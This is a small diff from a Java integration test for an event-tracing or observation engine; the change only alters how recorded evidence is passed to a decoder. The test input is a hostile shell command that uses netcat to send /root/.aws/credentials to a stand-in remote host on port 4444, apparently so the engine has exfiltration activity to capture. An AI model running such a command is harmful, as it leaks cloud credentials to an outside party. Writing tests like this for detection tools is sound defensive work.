@@ -108,7 +108,7 @@ final class ObservationNetworkEngineIT {
   void makesTheSameEventsOfTheSameEvidence() throws Exception {
     var result = run("busybox nc -w 3 198.18.7.7 4444 < /root/.aws/credentials; busybox mkdir /x");
 
-    var again = EventDecoder.decode(result.evidence(), Map.of(), 100_000);
+    var again = EventDecoder.decode(TraceSource.of(result.evidence()), Map.of(), 100_000);
 
     assertThat(again.events()).isEqualTo(result.events());
     assertThat(again.events())
